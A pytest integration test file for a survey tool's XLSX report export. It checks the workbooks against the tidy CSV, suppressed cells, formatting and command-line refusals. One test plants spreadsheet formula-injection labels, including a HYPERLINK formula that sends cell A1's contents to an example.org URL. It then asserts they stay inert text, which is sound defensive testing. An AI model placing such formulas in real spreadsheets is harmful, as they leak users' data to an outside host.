"""eqsurvey report build --format xlsx through the real command, read back with openpyxl against the tidy CSV."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import pty
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from kernel.formula_safe import restore
from tests.integration.conftest import Eqsurvey
from tests.released_example import released_example

PASS = "xlsx tests passphrase"
ROOT = Path(__file__).resolve().parents[2]
INT, PCT, DEC = "#,##0", "0.0%", "0.00"
COUNTS = [("estimate", INT), ("low", INT), ("high", INT)]
SHARES = [("share", PCT), ("share_low", PCT), ("share_high", PCT)]
NUMBERS = {  # the workbook's number columns of each kind of table, in order, as the report's tables show them
    "counts": COUNTS + SHARES,
    "matrix": COUNTS + SHARES,
    "mean": [("estimate", DEC), ("low", DEC), ("high", DEC), ("n", INT)],
    "write_ins": COUNTS,
    "representation": [*SHARES, ("reference", PCT), ("ratio", DEC), ("ratio_low", DEC), ("ratio_high", DEC), *COUNTS],
}
STATUS = {
    "de": {"shown": "ausgewiesen", "uncertain": "unsicher", "suppressed": "nicht ausgewiesen"},
    "en": {"shown": "shown", "uncertain": "uncertain", "suppressed": "not shown"},
}


@dataclass
class Made:
    eqsurvey: Eqsurvey
    root: Path
    release: str


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Made]:
    """The Musterstadt example with 600 simulated responses and one release (made once for this module)."""
    eqsurvey, release = released_example(tmp_path_factory.mktemp("xlsx"), PASS, seed=5)
    yield Made(eqsurvey, eqsurvey.cwd, release)


def _csv(made: Made, lang: str) -> list[dict[str, str]]:
    made.eqsurvey("report", "build", made.release, "--lang", lang, "-o", f"out/cells-{lang}.csv")
    text = (made.root / "out" / f"cells-{lang}.csv").read_text(encoding="utf-8")
    return [{k: restore(v) for k, v in row.items()} for row in csv.DictReader(io.StringIO(text, newline=""))]


def _labels(row: dict[str, str], all_respondents: str) -> list[str]:
    """The row headers the report shows for a tidy row, from the CSV's label columns."""
    by = [row[f"by_{i}_value_label"] for i in (1, 2, 3) if row[f"by_{i}_value_label"]]
    kind = row["kind"]
    if kind == "mean":
        return by or [all_respondents]
    if kind == "write_ins":
        return [row["category"]]
    return [*([row["row_label"]] if kind == "matrix" else []), *by, row["category_label"]]


def _text(value: object) -> str:
    assert isinstance(value, str), value
    return str(unescape(value))


def _check_table(ws: Worksheet, rows: list[dict[str, str]], lang: str) -> None:
    kind = rows[0]["kind"]
    numbers = NUMBERS[kind]
    width = ws.max_column
    labels = width - len(numbers) - 2
    header = [_text(c.value) for c in ws[2]]
    assert header[-2] == "Status" and header[-1] == ("Hinweis" if lang == "de" else "Note")
    assert all(c.font.bold for c in ws[2]) and ws.freeze_panes == "A3"
    for r, row in enumerate(rows, start=3):
        cells = [ws.cell(row=r, column=c) for c in range(1, width + 1)]
        expected = _labels(row, "Alle Befragten" if lang == "de" else "All respondents")
        assert [_text(c.value) for c in cells[:labels]] == expected
        assert cells[-2].value == STATUS[lang][row["status"]]
        for cell, (key, fmt) in zip(cells[labels:-2], numbers, strict=True):
            if row["status"] == "suppressed":
                assert cell.value is None, (ws.title, r, key)  # never a number for a suppressed cell
            elif row[key] == "":
                assert cell.value == "–", (ws.title, r, key)  # a number that does not apply, as in the report
            else:
                assert cell.number_format == fmt, (ws.title, r, key)
                if fmt == INT:
                    assert isinstance(cell.value, int) and cell.value == round(float(row[key]))
                else:
                    # Excel keeps 15 significant digits (openpyxl writes 16): the same number as far as a sheet holds one
                    assert isinstance(cell.value, (int, float)) and math.isclose(
                        cell.value, float(row[key]), rel_tol=1e-14
                    )
    assert all(c.value is None for c in ws[3 + len(rows)])  # the notes come after an empty row


@pytest.mark.parametrize("lang", ["de", "en"])
def test_a_worksheet_per_table_with_every_cell_of_the_tidy_csv(made: Made, lang: str) -> None:
    cells = _csv(made, lang)
    run = made.eqsurvey("report", "build", made.release, "--lang", lang, "-o", f"out/tabellen-{lang}.xlsx")
    assert f"wrote out/tabellen-{lang}.xlsx" in run.stderr
    book = openpyxl.load_workbook(made.root / "out" / f"tabellen-{lang}.xlsx")
    tables = [t["id"] for t in json.loads(made.eqsurvey("release", "show", made.release, "--json").stdout)["tables"]]
    assert book.sheetnames[0] == ("Über" if lang == "de" else "About")
    assert len(book.sheetnames) == 1 + len(tables)
    assert len({n.lower() for n in book.sheetnames}) == len(book.sheetnames)
    for name in book.sheetnames:
        assert len(name) <= 31 and not set(name) & set("[]:*?/\\"), name
    caption = "Tabelle" if lang == "de" else "Table"
    for number, (table, ws) in enumerate(zip(tables, book.worksheets[1:], strict=True), start=1):
        rows = [r for r in cells if r["table"] == table]
        assert ws.title == f"{caption} {number}"
        if not rows:  # nothing of it could be published: the title and the note that says so
            assert ws.max_row > 3 and all(c.value is None for c in ws[3])
            continue
        assert _text(ws["A1"].value) == f"{caption} {number}: {rows[0]['table_title']}"
        _check_table(ws, rows, lang)
        assert ws.page_setup.paperSize == 9 and ws.page_setup.fitToWidth == 1
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_title_rows == "$1:$2"
    suppressed = [r for r in cells if r["status"] == "suppressed"]
    assert suppressed and any(r["kind"] == "representation" for r in cells)
    about = [_text(c.value) for row in book.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert made.release in about
    words = ("Differential Privacy", "„nicht ausgewiesen“", "Methode und Datenschutz") if lang == "de" else (
        "differential privacy", "“not shown”", "Methodology and data protection")  # fmt: skip
    assert all(any(w in text for text in about) for w in words), about
    _assert_no_formula(book)


def _assert_no_formula(book: openpyxl.Workbook) -> None:
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)


def test_hostile_labels_stay_text(made: Made) -> None:
    """An option label and the survey title that a spreadsheet would run as formulas arrive as text."""
    instrument = made.root / "instrument.yaml"
    original = instrument.read_text(encoding="utf-8")
    hostile = '=HYPERLINK("http://example.org/?"&A1,"Nordstadt")'
    changed = original.replace(
        "de: Nordstadt\n              en: Nordstadt", f"de: '{hostile}'\n              en: '@SUM(1+1)'", 1
    ).replace("de: Vielfalt und Diskriminierung in Musterstadt – Befragung 2026", "de: '-2+3'", 1)
    assert changed.count(hostile) == 1 and "'-2+3'" in changed
    try:
        instrument.write_text(changed, encoding="utf-8")
        for lang, label, title in (("de", hostile, "-2+3"), ("en", "@SUM(1+1)", None)):
            made.eqsurvey("report", "build", made.release, "--lang", lang, "-o", f"out/hostile-{lang}.xlsx")
            book = openpyxl.load_workbook(made.root / "out" / f"hostile-{lang}.xlsx")
            _assert_no_formula(book)
            found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == label]
            assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
            if title is not None:
                assert book.worksheets[0]["A1"].value == title and book.worksheets[0]["A1"].quotePrefix
    finally:
        instrument.write_text(original, encoding="utf-8")


@pytest.mark.parametrize(
    ("args", "named"),
    [
        (["--format", "xlsx", "-o", "out/t.csv"], "'.csv' file with --format xlsx (.xlsx)"),
        (["--format", "pdf", "-o", "out/t.xlsx"], "'.xlsx' file with --format pdf"),
    ],
)
def test_a_contradicting_suffix_is_refused(made: Made, args: list[str], named: str) -> None:
    run = made.eqsurvey("report", "build", made.release, *args, expect=1)
    assert "output-suffix" in run.stderr and named in run.stderr and "xlsx (.xlsx)" in run.stderr
    assert not (made.root / args[-1]).exists()


def _command(made: Made, *args: str) -> tuple[list[str], dict[str, str]]:
    path = os.pathsep.join(p for p in (str(ROOT), os.environ.get("PYTHONPATH", "")) if p)
    return [sys.executable, "-m", "eqsurvey", "report", "build", made.release, *args], os.environ | {"PYTHONPATH": path}


def test_a_workbook_is_not_written_to_a_terminal_but_can_be_piped(made: Made) -> None:
    command, env = _command(made, "--format", "xlsx")
    main, other = pty.openpty()
    try:
        run = subprocess.run(
            command, check=False, env=env, cwd=made.root, stdout=other, stderr=subprocess.PIPE, timeout=120
        )
    finally:
        os.close(other)
        os.close(main)
    assert run.returncode == 1, run.stderr
    assert b"binary-to-terminal" in run.stderr and b"-o report.xlsx" in run.stderr and b"Traceback" not in run.stderr
    piped = subprocess.run(command, env=env, cwd=made.root, capture_output=True, timeout=120, check=True)
    book = openpyxl.load_workbook(io.BytesIO(piped.stdout))
    assert book.sheetnames[0] == "Über"  # the instrument's default language


def _all(book: openpyxl.Workbook) -> list[Any]:
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
